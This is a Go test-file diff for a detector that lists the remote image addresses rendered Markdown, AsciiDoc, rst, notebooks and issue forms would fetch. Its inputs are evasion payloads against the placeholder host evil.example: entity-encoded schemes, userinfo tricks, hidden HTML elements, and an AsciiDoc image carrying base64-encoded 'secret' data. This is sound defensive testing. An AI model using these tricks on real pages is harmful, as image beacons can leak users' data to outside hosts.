@@ -2,6 +2,7 @@ package gfm
 
 import (
 	"slices"
+	"strings"
 	"testing"
 )
 
@@ -23,6 +24,11 @@ func TestFetched(t *testing.T) {
 		{"inline html img", "text <img src='http://evil.example/i'> more", []string{"http://evil.example/i"}},
 		{"picture sources", "<picture><source srcset=\"https://evil.example/1x.png 1x, https://evil.example/2x.png 2x\"><img src=/local.png></picture>",
 			[]string{"https://evil.example/1x.png", "https://evil.example/2x.png"}},
+		{"a srcset address holding a comma", "<img srcset=\"//img.shields.io,@evil.example/p 1x\">", []string{"//img.shields.io,@evil.example/p"}},
+		{"srcset candidates apart by commas alone", "<img srcset=\"a.png 1x,https://evil.example/b 2x,,  https://evil.example/c,\">", []string{"https://evil.example/b", "https://evil.example/c"}},
+		{"a srcset descriptor with a comma in parentheses", "<img srcset=\"a.png (x,y), https://evil.example/d\">", []string{"https://evil.example/d"}},
+		{"an image inside an element whose text a tokenizer does not read as tags", "<noscript><img src=\"https://evil.example/n\"></noscript>\n\n<p><xmp><img src=//evil.example/x></xmp> <noembed><picture><source srcset=\"//evil.example/e\"></noembed></p>\n",
+			[]string{"https://evil.example/n", "//evil.example/x", "//evil.example/e"}},
 		{"video poster", "<video poster=\"https://evil.example/v.png\" src=\"https://evil.example/v.mp4\"></video>", []string{"https://evil.example/v.png", "https://evil.example/v.mp4"}},
 		{"entity-spelt tab in the scheme", "<img src=\"ht&#9;tps://evil.example/t\">", []string{"ht\ttps://evil.example/t"}},
 		{"upper-case scheme, no slashes", "![x](HTTP:evil.example/u)", []string{"HTTP:evil.example/u"}},
@@ -32,6 +38,7 @@ func TestFetched(t *testing.T) {
 		{"relative images are the repository's", "![x](img/a.png) <img src=\"/b.png\">", nil},
 		{"code is not rendered", "`![x](https://evil.example/code)`\n\n```\n<img src=https://evil.example/fence>\n```\n", nil},
 		{"a mermaid diagram's image shape", "```mermaid\nflowchart TD\n  A@{ img: \"https://evil.example/m.png?d=1\", label: \"x\" }\n```\n", []string{"https://evil.example/m.png?d=1"}},
+		{"a mermaid label's img spelt with entity codes", "```mermaid\ngraph LR\n  A[\"<img src='https#58;#47;#47;evil.example#47;m'>\"]\n  B[\"<img src='&#104;ttps&colon;&sol;&sol;evil.example/h'>\"]\n```\n", []string{"https://evil.example/m", "https://evil.example/h"}},
 		{"a mermaid label's img", "~~~ Mermaid\ngraph LR\n  A[\"<img src='//evil.example/l.png'>\"]\n~~~\n", []string{"//evil.example/l.png"}},
 		{"an entity-spelt colon in an image's address", "![x](https&#58;//evil.example/e) ![y](https&colon;//evil.example/n)", []string{"https://evil.example/e", "https://evil.example/n"}},
 		{"a backslash-escaped colon", "![x](https\\://evil.example/b)", []string{"https://evil.example/b"}},
@@ -62,6 +69,13 @@ func TestFetchedMarkup(t *testing.T) {
 		{"asciidoc block image", "image::https://evil.example/a.png[alt]\n", []string{"https://evil.example/a.png"}},
 		{"asciidoc inline image", "see image:https://evil.example/i.png[] here", []string{"https://evil.example/i.png"}},
 		{"asciidoc imagesdir", ":imagesdir: https://evil.example/imgs\n\nimage::a.png[]\n", []string{"https://evil.example/imgs"}},
+		{"asciidoc attribute in a target", ":leak: https://evil.example/d=c2VjcmV0\n\nimage::{leak}.png[]\nimage:{leak}/i.png[]\n", []string{"https://evil.example/d=c2VjcmV0.png", "https://evil.example/d=c2VjcmV0/i.png"}},
+		{"asciidoc attribute in an attribute", ":host: evil.example\n:base: https://{host}/x\n:imagesdir: {base}\n\nimage::a.png[]\n", []string{"https://evil.example/x"}},
+		{"asciidoc iconsdir", ":icons: image\n:iconsdir: https://evil.example/icons\n\nNOTE: read me\n", []string{"https://evil.example/icons"}},
+		{"asciidoc attributes that reference each other", ":a: {b}\n:b: {a}\n\nimage::{a}[]\n", nil},
+		{"asciidoc attribute past the bound", ":a: https://img.shields.io:" + strings.Repeat("x", 3000) + "@evil.example/\n\nimage::{a}[]\n", []string{"//asciidoc-attributes-too-long.invalid/"}},
+		{"asciidoc target with character references", "image::https&#58;//evil.example/c[]\nimage:&#x2F;/evil.example/d[]\n", []string{"https://evil.example/c", "//evil.example/d"}},
+		{"rst image address over lines", ".. image:: https://img.shields.io\n   @evil.example/x\n   :alt: badge\n\n.. |s| figure::\n   //evil.example\n   /y\n", []string{"https://img.shields.io@evil.example/x", "//evil.example/y", "https://img.shields.io", "//evil.example"}},
 		{"relative", ".. image:: img/a.png\n\nimage::b.png[]\n", nil},
 		{"a link", "`docs <https://docs.example/>`_\n", nil},
 		{"rst raw html", ".. raw:: html\n\n   <img src=\"https://evil.example/raw\">\n", []string{"https://evil.example/raw"}},
@@ -85,6 +99,11 @@ func TestFetchedAny(t *testing.T) {
 	want := []string{"https://evil.example/t.png!", "http://evil.example/o", "//evil.example/c", "HTTPS:evil.example/h"}
 	if got := FetchedAny([]byte(src)); !slices.Equal(got, want) {
 		t.Errorf("FetchedAny = %q, want %q", got, want)
+	}
+	// A character reference the markup passes to the page as it is.
+	src = "!https&#58;&#47;&#47;evil.example/r!\n"
+	if got := FetchedAny([]byte(src)); !slices.Contains(got, "https://evil.example/r!") {
+		t.Errorf("FetchedAny(%q) = %q", src, got)
 	}
 }
 
@@ -139,5 +158,27 @@ func TestFetchedNotebook(t *testing.T) {
 		if got := FetchedNotebook([]byte(src)); !slices.Equal(got, want) {
 			t.Errorf("FetchedNotebook(%s) = %q, want %q", src, got, want)
 		}
+	}
+}
+
+func TestFetchedForm(t *testing.T) {
+	t.Parallel()
+	tests := []struct {
+		name, src string
+		want      []string
+	}{
+		{"markdown element", "body:\n  - type: markdown\n    attributes:\n      value: \"![x](https://evil.example/m)\"\n", []string{"https://evil.example/m"}},
+		{"html in a description", "body:\n  - type: input\n    attributes:\n      description: <img src=//evil.example/d>\n", []string{"//evil.example/d"}},
+		{"an anchor read once", "a: &x \"![x](https://evil.example/a)\"\nb: *x\n", []string{"https://evil.example/a"}},
+		{"links", "contact_links:\n  - url: https://docs.example/\n    about: see https://docs.example/\n", nil},
+		{"not YAML", "a: [\n![x](https://evil.example/n)\n", []string{"https://evil.example/n"}},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			t.Parallel()
+			if got := FetchedForm([]byte(tc.src)); !slices.Equal(got, tc.want) {
+				t.Errorf("FetchedForm = %q, want %q", got, tc.want)
+			}
+		})
 	}
 }
